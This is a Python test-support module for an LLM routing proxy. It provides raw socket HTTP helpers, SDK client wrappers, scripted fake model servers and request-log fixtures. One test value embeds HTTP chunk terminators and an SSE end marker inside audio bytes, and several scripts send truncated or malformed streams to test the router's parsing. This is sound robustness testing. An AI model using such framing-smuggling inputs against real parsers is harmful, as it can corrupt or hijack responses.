    sock = socket.create_connection((host, port), PATIENCE)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def encode_request(
    method: str, path: str, body: Any = None, fields: Pairs = (), version: str = "1.1"
) -> bytes:
    """Encode a request; a body, as bytes or as a document, has its Content-Length."""
    own = [("Host", "router")]
    content = b""
    if body is not None:
        content = body if isinstance(body, bytes) else encode_json(body)
        own += [("Content-Type", "application/json"), ("Content-Length", str(len(content)))]
    lines = [f"{method} {path} HTTP/{version}"]
    lines += [f"{name}: {value}" for name, value in [*own, *fields]]
    return "\r\n".join([*lines, "", ""]).encode("latin-1") + content


def send_raw(
    port: int,
    *steps: bytes | float,
    answers: int = 1,
    host: str = "127.0.0.1",
    to_head: bool = False,
    patience: float = PATIENCE,
) -> bytes:
    """Send these bytes on a new connection, numbers being pauses; return what comes back.

    It is read until so many answers are complete, with `answers=0` until the close. `to_head`
    says that the request was HEAD, whose answers have no content whatever their fields say.
    """
    with connect(port, host) as sock:
        sock.settimeout(patience)
        return exchange(sock, *steps, answers=answers, to_head=to_head)


def exchange(
    sock: socket.socket, *steps: bytes | float, answers: int = 1, to_head: bool = False
) -> bytes:
    """Do the same on an open connection."""
    try:
        for step in steps:
            if isinstance(step, bytes):
                sock.sendall(step)
            else:
                time.sleep(step)
    except ConnectionError:
        # The router has refused to read on; its answer says why.
        pass
    data = b""
    while not answers or len(split_responses(data, to_head)[0]) < answers:
        try:
            more = sock.recv(1 << 20)
        except ConnectionError:
            break
        if not more:
            break
        data += more
    return data


def split_responses(data: bytes, to_head: bool = False) -> tuple[list[Response], bytes]:
    """Return the complete final answers in these bytes, and the bytes that are left over."""
    found: list[Response] = []
    while b"\r\n\r\n" in data:
        top, _, rest = data.partition(b"\r\n\r\n")
        status, fields = parse_head(top)
        content, rest = take_content(status, fields, rest, to_head)
        if content is None:
            break
        data = rest
        if status >= 200:
            found.append(Response(status, fields, content))
    return found, data


def parse_head(top: bytes) -> tuple[int, list[tuple[str, str]]]:
    """Return the status and the fields of a response head without its empty line."""
    status_line, *lines = top.decode("latin-1").split("\r\n")
    return int(status_line.split(" ")[1]), parse_field_lines(lines)


def take_content(
    status: int, fields: Pairs, rest: bytes, to_head: bool
) -> tuple[bytes | None, bytes]:
    """Return the content of an answer and what follows; None for one that is not all there."""
    if to_head or status < 200 or status in (204, 304):
        return b"", rest
    if values_of("Transfer-Encoding", fields):
        return take_chunks(rest)
    lengths = values_of("Content-Length", fields)
    if not lengths:
        # Only the close ends it.
        return None, rest
    size = int(lengths[-1])
    if len(rest) < size:
        return None, rest
    return rest[:size], rest[size:]


def take_chunks(data: bytes) -> tuple[bytes | None, bytes]:
    """Return the content of complete chunks, without trailers, and what follows."""
    content = b""
    while b"\r\n" in data:
        line, _, data = data.partition(b"\r\n")
        size = int(line, 16)
        if len(data) < size + 2:
            break
        if size == 0:
            return (content, data[2:]) if data[:2] == b"\r\n" else (None, data)
        content += data[:size]
        data = data[size + 2 :]
    return None, data


def parse_response(data: bytes, to_head: bool = False) -> Response:
    """Return the last answer in these bytes; `whole` is False when it was cut off.

    One without framing, which ends with the connection, counts as whole.
    """
    found, rest = split_responses(data, to_head)
    if found and b"\r\n\r\n" not in rest:
        return dataclasses.replace(found[-1], rest=rest)
    top, _, content = rest.partition(b"\r\n\r\n")
    assert top.startswith(b"HTTP/1."), f"no answer: {data[:200]!r}"
    status, fields = parse_head(top)
    framed = values_of("Content-Length", fields) or values_of("Transfer-Encoding", fields)
    return Response(status, fields, content, whole=not framed)


def request(
    port: int,
    method: str,
    path: str,
    body: Any = None,
    fields: Pairs = (),
    host: str = "127.0.0.1",
    patience: float = PATIENCE * 3,
    tls: ssl.SSLContext | None = None,
) -> Response:
    """Send one request through http.client, on a connection of its own, with `tls` over https."""
    caller = http.client.HTTPConnection(host, port, timeout=patience)
    if tls:
        caller = http.client.HTTPSConnection(host, port, timeout=patience, context=tls)
    try:
        content = body if isinstance(body, bytes) or body is None else encode_json(body)
        caller.putrequest(method, path, skip_accept_encoding=True)
        if content is not None:
            if "content-type" not in {n.lower() for n, _ in fields}:
                caller.putheader("Content-Type", "application/json")
            caller.putheader("Content-Length", str(len(content)))
        for name, value in fields:
            caller.putheader(name, value)
        caller.endheaders(content)
        response = caller.getresponse()
        got = Response(response.status, response.getheaders(), b"")
        try:
            while piece := response.read1(1 << 20):
                got.pieces.append((time.monotonic(), piece))
            got.whole = not response.length
        except (http.client.IncompleteRead, ConnectionError):
            got.whole = False
        got.content = b"".join(piece for _, piece in got.pieces)
        return got
    finally:
        caller.close()


def chat_document(model: str, text: str = "hi", **more: Any) -> dict[str, Any]:
    """Make the document of a chat request."""
    return {"model": model, "messages": [{"role": "user", "content": text}], **more}


def post_chat(router: Router, model: str, text: str = "hi", **more: Any) -> Response:
    """Ask a router for a chat completion."""
    return request(router.port, "POST", "/v1/chat/completions", chat_document(model, text, **more))


CHAT = "/v1/chat/completions"
ANTHROPIC = "/v1/messages"
RESPONSES = "/v1/responses"

# For each endpoint a document that it takes, but for its model.
EXAMPLE_REQUESTS: dict[str, dict[str, Any]] = {
    CHAT: {"messages": [{"role": "user", "content": "hi"}]},
    "/v1/completions": {"prompt": "hi"},
    "/v1/embeddings": {"input": "hi"},
    "/api/chat": {"messages": [{"role": "user", "content": "hi"}]},
    "/api/generate": {"prompt": "hi"},
    "/api/embed": {"input": "hi"},
    "/v1/rerank": {"query": "hi"},
}

# Each endpoint, whole and, where it can be, streamed.
ALL_WAYS = [
    (path, stream)
    for path in EXAMPLE_REQUESTS
    for stream in ([False] if "embed" in path or "rerank" in path else [False, True])
]


def example_request(path: str, model: str, stream: bool) -> dict[str, Any]:
    """Make a document that this endpoint takes."""
    document = {**EXAMPLE_REQUESTS[path], "model": model}
    if (path, True) in ALL_WAYS:
        document["stream"] = stream
    return document


def encode_get(path: str, fields: Pairs = (), version: str = "1.1") -> bytes:
    """Encode a GET."""
    return encode_request("GET", path, None, fields, version)


def encode_post(path: str, document: Any, fields: Pairs = (), version: str = "1.1") -> bytes:
    """Encode a POST of a JSON document."""
    return encode_request("POST", path, document, fields, version)


def encode_chunked_post(path: str, *pieces: bytes, end: bytes = b"0\r\n\r\n") -> bytes:
    """Encode a POST of JSON whose content comes in these chunks."""
    fields = [("Transfer-Encoding", "chunked"), ("Content-Type", "application/json")]
    top = encode_request("POST", path, None, fields)
    return top + b"".join(encode_chunks(*pieces, end=end))


def read_until(sock: socket.socket, *marks: bytes) -> bytes:
    """Read until each of these has come, one after the other, and return all that was read."""
    data = b""
    at = 0
    for mark in marks:
        while (found := data.find(mark, at)) < 0:
            more = sock.recv(1 << 16)
            assert more, f"closed before {mark!r}: {data!r}"
            data += more
        at = found + len(mark)
    return data


def is_visibly_broken(got: Response) -> bool:
    """Tell whether a client sees that an answer failed: a 502, a cut or an error at its end."""
    last = got.events[-1] if got.events else b""
    return got.status == 502 or not got.whole or b'"error"' in last


# --- official clients -----------------------------------------------------------------
# The packages `openai` and `ollama`, each with its sync and its async client. A test that is
# marked `@each_openai` runs with both clients of that package; `@each_way` gives it a name that
# reaches the server by a rule, by an alias and by MODEL_MAP.

CLIENT_KEY = "sk-a-client-s-own-key"


async def await_parts(calling: Callable, streamed: bool, parts: list) -> Any:
    """Await an answer and return it, or gather the parts of a stream and return these."""
    result = await calling()
    if not streamed:
        return result
    async for part in result:
        parts.append(part)
    return parts


@functools.cache
def sdk_client(package: str, asynchronous: bool, timeout: float, url: str, base: str) -> Any:
    """Return the client that talks to the router at this URL; it never tries again.

    `base` is the path that it puts before those of OpenAI's endpoints.
    """
    # Import it before a stream is open: an import may run the garbage collector, whose warning
    # of a stream that nobody closed would fail some other test.
    with contextlib.suppress(ImportError):
        importlib.import_module("ollama")
    prefix = "Async" if asynchronous else ""
    module = import_or_skip(package)
    if package == "ollama":
        return getattr(module, f"{prefix}Client")(host=url, timeout=timeout)
    if package == "anthropic":
        client = getattr(module, f"{prefix}Anthropic")
        return client(base_url=url, api_key=CLIENT_KEY, max_retries=0, timeout=timeout)
    return getattr(module, f"{prefix}OpenAI")(
        base_url=url + base,
        api_key=CLIENT_KEY,
        organization="homelab",
        max_retries=0,
        timeout=timeout,
    )


@functools.cache
def event_loop() -> asyncio.AbstractEventLoop:
    """Start the one loop of all asynchronous clients, which keep their connections.

    It has a thread of its own: the main thread may have a loop already, the browser's.
    """
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    # Callbacks run in the opposite order: the close of the loop is the last of these steps.
    for step in (
        loop.close,
        thread.join,
        lambda: loop.call_soon_threadsafe(loop.stop),
        lambda: run_in_loop(loop.shutdown_asyncgens()),
    ):
        AT_SESSION_END.callback(step)
    return loop


def run_in_loop(task: Coroutine[Any, Any, Any]) -> Any:
    """Run a coroutine in the loop of the asynchronous clients and return its result."""
    return asyncio.run_coroutine_threadsafe(task, event_loop()).result()


@dataclasses.dataclass(frozen=True)
class Sdk:
    """An official client, sync or async, used as its documentation shows."""

    package: str
    asynchronous: bool
    timeout: float = PATIENCE
    base: str = "/v1"

    def __str__(self) -> str:
        return f"{self.package}-{'async' if self.asynchronous else 'sync'}"

    def client(self, url: str) -> Any:
        """Return the client for the router at this URL."""
        return sdk_client(self.package, self.asynchronous, self.timeout, url, self.base)

    def call(
        self,
        url: str,
        method: str,
        *values: Any,
        parts: list | None = None,
        **named: Any,
    ) -> Any:
        """Call a method by its dotted name; return the answer, or all parts of a stream.

        `parts` is a list that gathers what came, also when the stream ends with an exception.
        """
        bound = operator.attrgetter(method)(self.client(url))
        parts = [] if parts is None else parts
        streamed = named.get("stream", False)
        if self.asynchronous:
            calling = functools.partial(bound, *values, **named)
            return run_in_loop(await_parts(calling, streamed, parts))
        result = bound(*values, **named)
        if not streamed:
            return result
        for part in result:
            parts.append(part)
        return parts


OPENAI_SDKS = (Sdk("openai", False), Sdk("openai", True))
OLLAMA_SDKS = (Sdk("ollama", False), Sdk("ollama", True))
ANTHROPIC_SDKS = (Sdk("anthropic", False), Sdk("anthropic", True))

# What turns the requested name into that of a script: `sdk_router` says how.
KINDS_OF_ROUTE = ("rule", "alias", "map")

each_openai = pytest.mark.parametrize("sdk", OPENAI_SDKS, ids=str)
each_ollama = pytest.mark.parametrize("sdk", OLLAMA_SDKS, ids=str)
each_anthropic = pytest.mark.parametrize("sdk", ANTHROPIC_SDKS, ids=str)
each_way = pytest.mark.parametrize("way", KINDS_OF_ROUTE)
each_stream = functools.partial(pytest.mark.parametrize, "stream", (False, True))
whole_or_streamed = each_stream(ids=("whole", "sse"))
whole_or_lines = each_stream(ids=("whole", "ndjson"))


# --- official clients: the servers behind them ----------------------------------------
# One upstream plays all of these servers: SCRIPTS has a script for each of its models.

HELLO_MESSAGES = [{"role": "user", "content": "hello"}]
HELLO_ANSWER = "You said: hello"
PICTURES = {
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\xfb\xef\xbe",
    "gif": b"GIF89a\x01\x00\x01\x00",
    "webp": b"RIFF\x1a\x00\x00\x00WEBPVP8L",
}
SOUND = bytes(range(256)) * 40 + b"<think>\r\n\r\n0\r\n\r\ndata: [DONE]\n\n</think>"
VECTOR = [0.5, -1.25, 3.0]
CITY = {"city": "Paris", "people": 2100000}
TOOL_CALLS: Cases = (("weather", {"city": "Paris \u2728", "days": [1, 2]}), ("clock", {}))
TOOLS = [
    {
        "type": "function",
        "function": {
            "name": name,
            "description": f"the {name}",
            "parameters": {
                "type": "object",
                "properties": {"city": {"type": "string", "description": "where"}},
                "required": ["city"],
            },
        },
    }
    for name, _ in TOOL_CALLS
]


def chat_chunk(document: Any, said: Mapping[str, Any], finish: str | None = None) -> dict:
    """Make an event of a streamed chat."""
    choice = {"index": 0, "delta": said, "finish_reason": finish}
    return {
        "id": "cmpl-1",
        "object": "chat.completion.chunk",
        "created": 1700000000,
        "model": document.get("model"),
        "choices": [choice],
    }


def script_saying(text: str, finish: str = "stop") -> Script:
    """Make a script that says this text, whole or streamed, and ends for this reason."""

    def script(received: Received) -> Iterable[Step]:
        document = received.json
        kind = "chat" if "chat" in received.path else "text"
        if not document.get("stream"):
            whole = completion(document, text, kind)
            whole["choices"][0]["finish_reason"] = finish
            return json_response(whole)
        events = completion_events(document, text, kind)
        for document in events[:-1]:
            for choice in document["choices"]:
                if choice["finish_reason"]:
                    choice["finish_reason"] = finish
        return sse_response(events)

    return script


def tool_call(number: int, name: str, arguments: str, **more: Any) -> dict:
    """Make a call of a tool as OpenAI servers write it."""
    call = {"id": f"call_{number}", "type": "function"}
    return {**more, **call, "function": {"name": name, "arguments": arguments}}


def serve_tool_calls(received: Received) -> Iterable[Step]:
    """Call both tools; a stream has their arguments in fragments that alternate."""
    document = received.json
    if not document.get("stream"):
        calls = [tool_call(i, n, json.dumps(a)) for i, (n, a) in enumerate(TOOL_CALLS)]
        whole = completion(document, "")
        message = {"role": "assistant", "content": None, "tool_calls": calls}
        whole["choices"][0] |= {"message": message, "finish_reason": "tool_calls"}
        return json_response(whole)
    deltas: list[dict] = [{"role": "assistant", "content": None}]
    for i, (name, _) in enumerate(TOOL_CALLS):
        deltas.append({"tool_calls": [tool_call(i, name, "", index=i)]})
    # Four characters of the first tool's arguments, four of the second's, and so on.
    fragments = [re.findall(".{1,4}", json.dumps(arguments)) for _, arguments in TOOL_CALLS]
    for turn in itertools.zip_longest(*fragments):
        for i, fragment in enumerate(turn):
            if fragment:
                call = {"index": i, "function": {"arguments": fragment}}
                deltas.append({"tool_calls": [call]})
    events = [chat_chunk(document, delta) for delta in deltas]
    return sse_response([*events, chat_chunk(document, {}, "tool_calls"), "[DONE]"])


def serve_reasoning(received: Received) -> Iterable[Step]:
    """Think in a field of its own, as llama.cpp and vLLM do, then answer."""
    document = received.json
    if not document.get("stream"):
        whole = completion(document, "Forty-two.")
        whole["choices"][0]["message"]["reasoning_content"] = "Six times seven."
        return json_response(whole)
    said = [
        {"reasoning_content": "Six "},
        {"reasoning_content": "times seven."},
        {"content": "Forty"},
        {"content": "-two."},
    ]
    events = [chat_chunk(document, piece) for piece in said]
    return sse_response([*events, chat_chunk(document, {}, "stop"), "[DONE]"])


def serve_vectors(received: Received) -> Iterable[Step]:
    """Answer with a vector for each input, as numbers or in base64."""
    given = received.json["input"]
    vector: Any = VECTOR
    if received.json.get("encoding_format") == "base64":
        vector = base64.b64encode(struct.pack(f"<{len(VECTOR)}f", *VECTOR)).decode()
    data = [
        {"object": "embedding", "index": i, "embedding": vector}
        for i, _ in enumerate(given if isinstance(given, list) else [given])
    ]
    used = {"prompt_tokens": 5, "total_tokens": 5}
    return json_response({"object": "list", "data": data, "model": "v", "usage": used})


def named_events(documents: Iterable[dict]) -> list[bytes]:
    """Encode events that say their type in a line of their own, as Anthropic's do."""
    return [b"event: %s\n" % d["type"].encode() + encode_event(d) for d in documents]


def serve_responses(received: Received) -> Iterable[Step]:
    """Answer as /v1/responses does."""
    text = {"type": "output_text", "text": HELLO_ANSWER, "annotations": []}
    message = {
        "id": "msg_1",
        "type": "message",
        "role": "assistant",
        "status": "completed",
        "content": [text],
    }
    whole = {
        "id": "resp_1",
        "object": "response",
        "created_at": 1700000000,
        "status": "completed",
        "model": received.model,
        "output": [message],
        "parallel_tool_calls": True,
        "tool_choice": "auto",
        "tools": [],
        "usage": {"input_tokens": 3, "output_tokens": 3, "total_tokens": 6},
    }
    if not received.json.get("stream"):
        return json_response(whole)
    place = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
    started = {**whole, "status": "in_progress", "output": []}
    events: list[dict] = [
        {"type": "response.created", "response": started},
        {"type": "response.output_text.delta", **place, "delta": "You said: "},
        {"type": "response.output_text.delta", **place, "delta": "hello"},
        {"type": "response.completed", "response": whole},
    ]
    return sse_response(named_events(events))


CLAUDE_EVENTS = named_events(
    [
        {
            "type": "message_start",
            "message": {
                "id": "msg_1",
                "type": "message",
                "role": "assistant",
                "content": [],
                "usage": {"input_tokens": 9, "output_tokens": 1},
            },
        },
        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
        {"type": "ping"},
        {
            "type": "content_block_delta",
            "index": 0,
            "delta": {"type": "text_delta", "text": "Hello"},
        },
        {"type": "content_block_stop", "index": 0},
        {
            "type": "message_delta",
            "delta": {"stop_reason": "end_turn"},
            "usage": {"output_tokens": 4},
        },
        {"type": "message_stop"},
    ]
)
CLAUDE_MESSAGE = (
    b'{ "id":"msg_1", "type":"message","role":"assistant",\n'
    b'  "content":[{"type":"text","text":"Hello \\u00e9"}],\n'
    b'  "usage":{"input_tokens":9,"output_tokens":4.0} }\n'
)


def serve_claude(received: Received) -> Iterable[Step]:
    """Answer as /v1/messages does."""
    if received.json.get("stream"):
        return sse_response(CLAUDE_EVENTS)
    return whole_response(CLAUDE_MESSAGE, kind="application/json")


CLAUDE_TOOL_EVENTS = [
    {"type": "content_block_start", "index": 0,
     "content_block": {"type": "tool_use", "id": "toolu_1", "name": "weather", "input": {}}},
    {"type": "content_block_start", "index": 1,
     "content_block": {"type": "tool_use", "id": "toolu_2", "name": "clock", "input": {}}},
    {"type": "content_block_delta", "index": 0,
     "delta": {"type": "input_json_delta", "partial_json": '{"city": '}},
    {"type": "content_block_delta", "index": 0,
     "delta": {"type": "input_json_delta", "partial_json": '"Paris"}'}},
    {"type": "content_block_stop", "index": 0},
    {"type": "content_block_stop", "index": 1},
]  # fmt: skip


def serve_claude_tools(received: Received) -> Iterable[Step]:
    """Call two tools at once as /v1/messages does; count tokens."""
    if received.path.endswith("/count_tokens"):
        return json_response({"input_tokens": 42})
    start, *_, delta, stop = [json.loads(event.split(b"data: ")[1]) for event in CLAUDE_EVENTS]
    if received.json.get("stream"):
        return sse_response(named_events([start, *CLAUDE_TOOL_EVENTS, delta, stop]))
    blocks = [event["content_block"] for event in CLAUDE_TOOL_EVENTS[:2]]
    blocks = [{**blocks[0], "input": {"city": "Paris"}}, blocks[1]]
    usage = {"input_tokens": 9, "output_tokens": 4}
    message = {"id": "msg_1", "type": "message", "role": "assistant", "model": received.model}
    whole = {**message, "content": blocks, "stop_reason": "tool_use", "usage": usage}
    return json_response(whole)


def serve_responses_tools(received: Received) -> Iterable[Step]:
    """Call the first two tools of the request at once, as /v1/responses does."""
    items = [
        {
            "type": "function_call",
            "id": f"fc_{number}",
            "call_id": f"call_{number}",
            "name": tool["name"],
            "arguments": '{"city": "Paris"}',
            "status": "completed",
        }
        for number, tool in enumerate(received.json["tools"][:2])
    ]
    whole = {
        "id": "resp_1",
        "object": "response",
        "created_at": 1700000000,
        "status": "completed",
        "model": received.model,
        "output": items,
        "parallel_tool_calls": True,
        "tool_choice": "auto",
        "tools": [],
        "usage": {
            "input_tokens": 30,
            "input_tokens_details": {"cached_tokens": 20},
            "output_tokens": 5,
            "output_tokens_details": {"reasoning_tokens": 0},
            "total_tokens": 35,
        },
    }
    if not received.json.get("stream"):
        return json_response(whole)
    events: list[dict] = [{"type": "response.created", "response": {**whole, "output": []}}]
    for number, item in enumerate(items):
        place = {"output_index": number, "item_id": item["id"]}
        done = {**place, "name": item["name"], "arguments": item["arguments"]}
        events += [
            {"type": "response.output_item.added", "item": {**item, "arguments": ""}, **place},
            {"type": "response.function_call_arguments.done", **done},
            {"type": "response.output_item.done", "item": item, **place},
        ]
    return sse_response(named_events([*events, {"type": "response.completed", "response": whole}]))


def serve_sound(received: Received) -> Iterable[Step]:
    """Answer with sound: MP3 with a length, anything else in chunks."""
    if received.json["response_format"] == "mp3":
        return whole_response(SOUND, kind="audio/mpeg")
    return stream_response([SOUND[:5000], SOUND[5000:]], kind="audio/wav")


def own_error(status: int) -> dict:
    """Make an error that only the server can have made."""
    message = f"the server's own {status}"
    return {"error": {"message": message, "type": "own", "code": "own", "param": None}}


def script_failing(status: int) -> Script:
    """Make a script that answers with the server's own error."""
    fields = [("Retry-After", "7")] if status == 429 else []
    return lambda received: json_response(own_error(status), status, fields)


def script_breaking_off(*ending: Step) -> Script:
    """Make a script that says two words in one send and then goes on with these steps."""

    def script(received: Received) -> Iterable[Step]:
        said = [encode_event(chat_chunk(received.json, {"content": w})) for w in ("One ", "two ")]
        head, *words = stream_response(said, whole=False)
        return [b"".join((head, *words)), *ending]  # type: ignore[arg-type]

    return script


# An error in the middle of a stream, as vLLM writes it.
OUT_OF_MEMORY = encode_json({"error": {"message": "out of memory", "code": 500}})

BREAKING_SCRIPTS: dict[str, Script] = {
    "reset": script_breaking_off(0.2, DROP),
    "half": script_breaking_off(b"20\r\ndata: {", CLOSE),
    "trouble": script_breaking_off(*encode_chunks(b"data: " + OUT_OF_MEMORY + b"\n\n")),
    "stall": script_breaking_off(HANG),
}


def serve_gzip(received: Received) -> Iterable[Step]:
    """Answer in gzip although nobody asked for it."""
    content = gzip.compress(encode_json(completion(received.json, HELLO_ANSWER)))
    return whole_response(content, 200, [("Content-Encoding", "gzip")], "application/json")


# The exception of the package `openai` for each status.
SDK_ERRORS = {
    400: "BadRequestError",
    401: "AuthenticationError",
    404: "NotFoundError",
    429: "RateLimitError",
    500: "InternalServerError",
}
SCRIPTS: dict[str, Script] = {
    "talk": well_behaved,
    "tools": serve_tool_calls,
    "json": script_saying(json.dumps(CITY)),
    "think": script_saying("<think>Six times seven.</think>\n\nForty-two."),
    "reason": serve_reasoning,
    "long": script_saying("and so on and so", finish="length"),
    "vectors": serve_vectors,
    "respond": serve_responses,
    "claude": serve_claude,
    "claude-tools": serve_claude_tools,
    "respond-tools": serve_responses_tools,
    "speak": serve_sound,
    "squeeze": serve_gzip,
    **BREAKING_SCRIPTS,
    "mute": lambda received: [HANG],
    **{f"error-{status}": script_failing(status) for status in SDK_ERRORS},
}


# --- official clients: the routers between --------------------------------------------


@functools.cache
def switched_off_url(name: str) -> str:
    """Return the URL of a server that is switched off, always the same for a name."""
    return refusing_url()


def serve_document(document: Any, received: Received) -> Iterable[Step]:
    """Answer every request with the same document."""
    return json_response(document)


@functools.cache
def sdk_upstream() -> Upstream:
    """Return the upstream that plays all of SCRIPTS."""
    upstream = Upstream(models=["talk", "tiny", "org/some-model"])
    upstream.scripts.update(SCRIPTS)
    paths = {
        "/v1/audio/transcriptions": {"text": "heard"},
        "/v1/images/edits": {"created": 1, "data": [{"b64_json": "UE5H"}]},
    }
    for path, document in paths.items():
        upstream.scripts[path] = functools.partial(serve_document, document)
    return upstream


def sdk_router(**settings: Any) -> Router:
    """Return a router that leads to each script by a rule, by an alias and by MODEL_MAP.

    The models "rule-X", "alias-X" (whose first instance is switched off) and "map-X" are the
    script "X", and so is "X" itself. No server is there for the model "nobody".
    """
    servers = {name: switched_off_url(name) for name in ("dead", "gone")}
    servers["bench"] = sdk_upstream().url
    aliases = {
        f"alias-{name}": {"instances": [f"dead/{name}", f"bench/{name}"]} for name in SCRIPTS
    }
    aliases["alias-nobody"] = {"instances": ["dead/nobody", "gone/nobody"]}
    routes = [
        {"match": {"model": "/^(rule-)?nobody$/"}, "route": {"upstream": "dead"}},
        {"match": {"model": "/^rule-(.+)$/"}, "route": {"upstream": "bench", "model": r"\1"}},
    ]
    renamed = {"old-name": "talk", "/^map-(.+)$/": r"\1"}
    own = {"DEFAULT_UPSTREAM": sdk_upstream().url, "MODEL_MAP": json.dumps(renamed)}
    table = {"servers": servers, "aliases": aliases, "routes": routes}
    return shared_router({**own, **settings}, table)


def impatient_router() -> Router:
    """Return the same router, but one that waits for its upstreams for 0.75 s only."""
    return sdk_router(REQUEST_TIMEOUT=0.75)


def models_router() -> Router:
    """Return the same router, but one of its own for model lists.

    Where other tests let servers fail, these cool down, and their models are not asked for.
    """
    return sdk_router(LOG_LEVEL="WARNING")


def post_json(path: str, body: Any, router: Router | None = None, **fields: str) -> Response:
    """Post a document; in the name of a field an underscore stands for a hyphen."""
    pairs = [(name.replace("_", "-"), value) for name, value in fields.items()]
    return request((router or sdk_router()).port, "POST", path, body, pairs)


def last_request(upstream: Upstream | None = None, method: str = "POST") -> Received:
    """Return the last request of a client that arrived; the router's own requests are GETs."""
    return [r for r in (upstream or sdk_upstream()).requests if r.method == method][-1]


@contextlib.contextmanager
def nothing_sent_upstream(upstream: Upstream | None = None) -> Iterator[None]:
    """Assert that nothing is posted to the server by what happens inside."""
    upstream = upstream or sdk_upstream()
    before = [r for r in upstream.requests if r.method == "POST"]
    yield
    after = [r for r in upstream.requests if r.method == "POST"]
    assert after[len(before) :] == []


def check_openai_error(document: Any) -> None:
    """Assert the shape that every error of the router itself has in OpenAI's dialect."""
    error = document["error"]
    assert set(error) == {"message", "type", "code", "param"}
    assert isinstance(error["message"], str) and error["message"]
    assert isinstance(error["type"], str) and error["param"] is None


def check_error(path: str, got: Response) -> None:
    """Assert that an answer is an error in the dialect of its path."""
    assert (got.get("Content-Type") or "").startswith("application/json")
    if path.startswith("/v1/"):
        return check_openai_error(got.json)
    assert set(got.json) == {"error"}
    assert isinstance(got.json["error"], str) and got.json["error"]


def model_names(router: Router, key: str = CLIENT_KEY) -> list[str]:
    """Return the names that /v1/models lists for the client with this key."""
    fields = [("Authorization", f"Bearer {key}")]
    got = request(router.port, "GET", "/v1/models", fields=fields)
    assert got.status == 200
    assert got.json["object"] == "list"
    assert all(model["object"] == "model" for model in got.json["data"])
    return [model["id"] for model in got.json["data"]]


def router_filtering(**settings: Any) -> Router:
    """Return a shared router with these settings in front of `default_upstream()`."""
    return shared_router({"DEFAULT_UPSTREAM": default_upstream().url, **settings})


# --- the request log and its database -------------------------------------------------


class LogFolder:
    """A folder with a log, for routers that write it one after the other or at once.

    It is the fixture `log_folder`. The folder outlives the routers, so that a test can look
    into the database when they have ended.
    """

    def __init__(self, folder: pathlib.Path, **settings: Any) -> None:
        self.file = folder / "log.db"
        self.blobs = folder / "blobs"
        self.settings = {
            "DEFAULT_UPSTREAM": default_upstream().url, "DB_PATH": self.file,
            "BLOB_STORAGE_PATH": self.blobs, "WEBUI_SECURITY": "NONE", **settings,
        }  # fmt: skip

    def router(self, **more: Any) -> Router:
        """Start a router that writes this log."""
        return Router({**self.settings, **more})

    def select(self, sql: str, *values: Any) -> list[Any]:
        """Return what this query selects; an sqlite3.Error while there is no such table."""
        with contextlib.closing(sqlite3.connect(f"file:{self.file}?mode=ro", uri=True)) as db:
            return db.execute(sql, values).fetchall()

    def wait_for_rows(self, count: int) -> int:
        """Wait until the log has so many finished rows, and return how many it has."""

        def count_rows() -> int:
            with contextlib.suppress(sqlite3.Error):
                return self.select("SELECT count(*) FROM requests WHERE failed IS NOT NULL")[0][0]
            return 0

        wait_until(lambda: count_rows() >= count)
        return count_rows()

    def all_bytes(self) -> bytes:
        """Return all bytes that are on the disk, and those that its compressed parts hold."""
        data = b"".join(f.read_bytes() for f in self.file.parent.rglob("*") if f.is_file())
        packed = [blob.read_bytes() for blob in self.blobs.rglob("*.z")]
        packed += [row[0] for row in self.select("SELECT data FROM details")]
        packed = [part for part in packed if not part[:1].isdigit()]
        return data + b"".join(map(zlib.decompress, packed))


@pytest.fixture
def log_folder(tmp_path: pathlib.Path) -> LogFolder:
    """Give a test a log of its own."""
    return LogFolder(tmp_path)


def get_document(router: Router, path: str) -> Any:
    """Get a path and return its document; it must be there."""
    got = request(router.port, "GET", path)
    assert got.status == 200, got.content
    return json.loads(got.content)


def wait_for_row(router: Router, key: str) -> dict[str, Any]:
    """Wait for the newest request for a model to be finished and written; return its row."""

    def finished_rows() -> Any:
        rows = get_document(router, f"/api/logs?model={key}&limit=1")
        return [row for row in rows if not row["is_inflight"]]

    return wait_until(finished_rows)[0]


def wait_for_detail(router: Router, key: str) -> dict[str, Any]:
    """Wait for the newest request for a model; return all that is kept of it."""
    return get_document(router, f"/api/request/{wait_for_row(router, key)['id']}")


@functools.cache
def logging_router() -> Router:
    """Return a router with a log that many tests share: each asks for a model of its own."""
    routes = {
        "servers": {"off": "http://127.0.0.1:9", "box": default_upstream().url},
        "aliases": {"either": {"instances": ["off/tiny", "box/other"]}},
        "routes": [
            {"match": {"model": "asked-for"}, "route": {"upstream": "box", "model": "sent"}},
            {"match": {"model": "friend"}, "route": {"alias": "either"}}],
    }  # fmt: skip
    return shared_router(
        {"DEFAULT_UPSTREAM": default_upstream().url, "WEBUI_SECURITY": "NONE"}, routes
    )


ROW_NAMES = re.findall(
    r"\w+",
    """id request_id timestamp source_ip method path service_type
    original_model mapped_model upstream_url route duration_ms ttft_ms request_size response_size
    status_code error_message prompt_tokens completion_tokens total_tokens tokens_estimated
    attempts stream completed_at failed is_inflight""",
)
MOMENT = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")


def settings_of(log_folder: LogFolder, **more: Any) -> Any:
    """The settings of a log, for the parts of the program."""
    named = {**log_folder.settings, **more}
    return smolrouter.Settings.from_mapping({name: str(value) for name, value in named.items()})


def make_store(folder: pathlib.Path) -> Any:
    """The store of a log in a folder, as the router's thread has it."""
    return smolrouter.Store(settings_of(LogFolder(folder)))


def make_row(number: int, days: float = 0.0, **more: Any) -> Any:
    """A row as it was written some days ago."""
    moment = int((time.time() - days * 86_400) * 1000)
    values = {
        "id": moment * 1024 + number, "request_id": f"{number:020x}", "timestamp": moment,
        "source_ip": "10.0.0.1", "method": "POST", "path": "/v1/chat/completions",
        "service_type": "openai", "upstream_url": "http://box:1", "route": "default", "stream": 0,
        "request_size": 10, "response_size": 20, "status_code": 200, "failed": 0,
        "attempts": "[]", "prompt_tokens": 5, "completion_tokens": 6, "tokens_estimated": 0,
        "duration_ms": 100.0, "completed_at": moment + 100, "level": 0,
        **dict.fromkeys(("original_model", "mapped_model", "sent_model"), "made"), **more,
    }  # fmt: skip
